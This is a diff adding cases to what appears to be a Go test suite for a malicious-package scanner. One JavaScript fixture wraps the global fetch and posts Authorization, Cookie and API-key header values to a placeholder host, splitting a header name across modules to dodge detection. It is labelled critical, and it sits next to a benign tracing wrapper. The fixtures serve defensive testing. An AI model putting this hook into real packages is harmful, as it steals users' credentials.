@@ -17,5 +17,17 @@ https.request = function (...a) { const h = (a[1] || {}).headers || {}; seen.pus
 		{"apm_redacts", map[string]string{"index.js": hook + `const out = seen.map(() => "[redacted]"); orig.call(https, { host: "apm.example.invalid" }).end(JSON.stringify(out))`}, finding.SeverityNone},
 		// a hook that sends nowhere of its own (a request logger)
 		{"logger", map[string]string{"index.js": hook + `process.on("exit", () => console.log(seen.length))`}, finding.SeverityNone},
+		// the global fetch, handed as a default parameter, wrapped to copy
+		// header values whose names another module spells in parts
+		{"fetch_hook_names_in_module", map[string]string{"package.json": rt.Pkg(`"main":"index.mjs"`),
+			"names.mjs": `export const HDR = ["author", "ization", "cookie", "x-api-key"];`,
+			"index.mjs": `import { HDR } from "./names.mjs"; const keys = [HDR[0] + HDR[1], HDR[2], HDR[3]];
+export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
+  const h = new Headers(init.headers); const got = {}; for (const k of keys) if (h.get(k)) got[k] = h.get(k);
+  orig("https://spans.example.invalid/v1", { method: "POST", body: JSON.stringify(got) }).catch(() => {}); return orig.call(this, input, init) } }`}, finding.SeverityCritical},
+		// a tracing wrapper that only adds its own header and times the call
+		{"fetch_hook_tracing", map[string]string{"index.mjs": `export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
+  const h = new Headers(init.headers); h.set("traceparent", id()); const t0 = Date.now(); const r = await orig.call(this, input, { ...init, headers: h });
+  orig("https://spans.example.invalid/v1", { method: "POST", body: JSON.stringify({ ms: Date.now() - t0, status: r.status }) }).catch(() => {}); return r } }`}, finding.SeverityNone},
 	})
 }
